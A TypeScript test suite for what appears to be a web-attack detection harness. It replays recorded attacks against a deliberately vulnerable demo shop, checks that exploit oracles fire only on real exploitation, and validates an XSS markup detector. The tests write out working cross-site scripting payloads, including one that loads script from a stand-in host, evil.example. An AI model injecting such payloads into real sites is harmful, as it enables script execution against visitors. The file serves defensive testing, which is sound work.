import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hasExecutableMarkup } from "../src/markup-oracle.ts";
import { exploited, oracles } from "../src/oracles.ts";
import { createShop, type Shop } from "../src/shop/shop.ts";
import type { Exchange, OracleName, TrafficRecord, TrafficResponse } from "../src/types.ts";
import { groupBy, isSendable, readTraffic, send } from "./shop-fixtures.ts";

interface Tried {
  readonly record: TrafficRecord;
  readonly response: TrafficResponse;
  readonly worked: boolean;
}

const tried: Tried[] = [];

beforeAll(async () => {
  const shop = createShop();
  const histories = new Map<string, Exchange[]>();
  for (const record of readTraffic("attacks").filter(isSendable)) {
    const history = histories.get(record.scenario ?? record.id) ?? [];
    histories.set(record.scenario ?? record.id, history);
    const response = await send(shop, record);
    tried.push({ record, response, worked: exploited(record, response, history) });
    history.push({ record, response });
  }
  await shop.close();
}, 120_000);

describe("against the unprotected shop", () => {
  it("every attack with an oracle works", () => {
    const failed = tried.filter(({ record, worked }) => record.oracle !== undefined && !worked);
    expect(failed.map(({ record, response }) => `${record.id} ${record.url} ${response.status}`)).toEqual([]);
  });

  it("every attack is answered with the status it names", () => {
    const other = tried.filter(({ record, response }) => record.expectDirect !== undefined && record.expectDirect !== response.status);
    expect(other.map(({ record, response }) => `${record.id} ${record.url.slice(0, 80)}: ${response.status}`)).toEqual([]);
  });

  it("each brute force and each stuffing run finds its one password after many wrong ones", () => {
    const runs = groupBy(
      tried.map(({ record }) => record).filter(({ class: name }) => /^(?:brute-force|credential-stuffing)$/.test(name)),
      ({ scenario }) => scenario,
    );
    const places = [...runs]
      .filter(([, records]) => records.length >= 40)
      .map(([name, records]) => [name, records.findIndex(({ oracle }) => oracle !== undefined)]);
    expect(places).toHaveLength(9);
    expect(places.filter(([, place]) => (place as number) < 20)).toEqual([]);
  });

  it.each([
    "sqli",
    "xss",
    "nosqli",
    "traversal",
    "lfi",
    "rce",
    "ssti",
    "xxe",
    "ssrf",
    "prototype-pollution",
    "open-redirect",
    "upload",
    "graphql",
    "header",
    "probe",
  ])("%s has at least ten different exploits that work", (name) => {
    const working = tried.filter(({ record, worked }) => record.class === name && worked);
    expect(
      new Set(working.map(({ record }) => `${record.url}${record.body}${JSON.stringify(record.headers)}`)).size,
    ).toBeGreaterThanOrEqual(10);
  });

  it.each(Object.keys(oracles) as OracleName[])(
    "the oracle %s fires on at least one attack and is silent when that one is refused",
    (name) => {
      const working = tried.filter(({ record, worked }) => record.oracle === name && worked);
      expect(working.length).toBeGreaterThan(0);
      const refused: TrafficResponse = { status: 403, headers: [["content-type", "text/html"]], body: "<h1>Forbidden</h1>" };
      for (const { record } of working) expect(exploited(record, refused)).toBe(false);
    },
  );
});

describe("for honest visitors", () => {
  let shop: Shop;
  beforeAll(() => {
    shop = createShop();
  });
  afterAll(() => shop.close());

  it("no oracle fires on any request of the normal traffic", async () => {
    const jars = new Map<string, Map<string, string>>();
    const fired: string[] = [];
    for (const record of readTraffic("normal")) {
      const jar = jars.get(record.scenario ?? record.id) ?? new Map<string, string>();
      jars.set(record.scenario ?? record.id, jar);
      const cookie = record.cookies === "keep" ? [...jar].map(([name, value]) => `${name}=${value}`).join("; ") : "";
      const response = await send(shop, record, cookie);
      for (const [name, value] of response.headers) {
        const pair = /^([^=]+)=([^;]*)/.exec(value);
        if (name === "set-cookie" && pair !== null) jar.set(pair[1] ?? "", pair[2] ?? "");
      }
      for (const [name, oracle] of Object.entries(oracles)) {
        // A login that succeeds is one for everybody, and a page that is not found follows one that was.
        if (name !== "password-found" && name !== "sql-boolean" && oracle(record, response, [])) fired.push(`${name} ${record.id}`);
      }
    }
    expect(fired).toEqual([]);
  }, 120_000);

  it("a page that only echoes what was asked proves nothing", () => {
    const response: TrafficResponse = {
      status: 200,
      headers: [["content-type", "text/html"]],
      body: "You sent: planted-passwd planted-vault-9d2e61 uid=1000(shopkeeper) 49",
    };
    const base = { id: "x", label: "attack", class: "sqli", method: "GET", headers: {}, body: null } as const;
    for (const oracle of ["hidden-rows", "secret-file", "shell-output", "template-result"] as const) {
      const record: TrafficRecord = { ...base, url: `/search?q=${encodeURIComponent(response.body)}`, oracle, proof: "49" };
      expect([oracle, exploited(record, response)]).toEqual([oracle, false]);
    }
  });
});

describe("what a browser would execute", () => {
  const page = (text: string) => `<!doctype html><title>t</title><script src="/static/shop.js" defer></script><p title="a > b">${text}</p>`;
  it.each([
    "<script>alert(1)</script>",
    "<script src=//evil.example/1.js></script>",
    "<img src=x onerror=alert(1)>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href=' \tjavascript:alert(1)'>x</a>",
    "<iframe srcdoc='&lt;script&gt;1&lt;/script&gt;'></iframe>",
    "<svg/onload=alert(1)//",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  ])("%s counts", (text) => {
    expect(hasExecutableMarkup(page(text), "1")).toBe(true);
  });

  it.each([
    "",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b>bold 1</b>",
    "1 < 2 onerror=alert(1)",
    '<a href="/product/1">x</a>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<img/src=x/onerror=alert`1`>",
    '<p title="<img src=x onerror=alert(1)>">quoted</p>',
  ])("%s does not", (text) => {
    expect(hasExecutableMarkup(page(text), "1")).toBe(false);
  });

  it("counts only markup with the proof in it, so that one visitor's script is not taken for another's", () => {
    expect(hasExecutableMarkup(page("<script>alert(1)</script>"), "2")).toBe(false);
  });
});
